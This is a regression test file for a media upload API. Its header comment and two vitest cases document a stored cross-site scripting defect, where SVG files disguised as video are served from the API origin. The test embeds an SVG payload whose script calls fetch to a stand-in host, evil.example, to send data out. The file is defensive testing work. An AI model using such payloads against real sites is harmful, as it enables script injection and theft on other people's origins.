import { json, test } from "@app/testkit";
import { expect } from "vitest";
import { call, publisherApp, seedAccount } from "../support.ts";

// Defect: src/domain/media-types.ts:37 (isMediaContentType accepts any image/*, so image/svg+xml)
// with src/routes/media_get.ts:42-46 (served with the stored type, no nosniff, no CSP). A key with
// media:write uploads an SVG carrying <script> (v1 raw body, or v2 with contentType image/svg+xml
// and filename x.mp4), and GET /media/<path> serves it from the service's own origin as
// image/svg+xml: a browser opening the "video" URL runs the attacker's script on the API origin
// (the origin of /docs and the OAuth callbacks). Publishing would never accept it anyway (the
// sniffer knows no SVG), so the type has no legitimate use.

const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/?"+document.domain)</script></svg>',
);

test("an SVG upload is refused or never served as active content from our origin", async ({ db }) => {
  const { key } = await seedAccount(db);
  const { app } = publisherApp(db);
  const res = await Promise.resolve(
    app.request("/api/v1/upload", {
      method: "POST",
      headers: {
        "x-api-key": key,
        "x-filename": "clip.mp4",
        "content-type": "image/svg+xml",
        "content-length": String(SVG.length),
      },
      body: SVG,
    }),
  );
  if (res.status === 400) return; // refusing the type is a fix too
  expect(res.status).toBe(200);
  const { videoUrl } = await json(res);
  const served = await app.request(videoUrl);
  expect(served.status).toBe(200);
  // Observed: content-type "image/svg+xml", no X-Content-Type-Options, no Content-Security-Policy.
  expect({
    type: served.headers.get("content-type"),
    nosniff: served.headers.get("x-content-type-options"),
  }).toEqual({ type: expect.not.stringMatching(/svg|html|xml/i), nosniff: "nosniff" });
});

test("a presign for image/svg+xml is refused", async ({ db }) => {
  const { key } = await seedAccount(db);
  const { app } = publisherApp(db);
  const res = await call(app, "POST", "/api/v2/upload", key, {
    contentLength: SVG.length,
    filename: "clip.mp4",
    contentType: "image/svg+xml",
  });
  // Observed: 200 with an uploadUrl signed for image/svg+xml under a .mp4 path.
  expect(res.status).toBe(400);
});
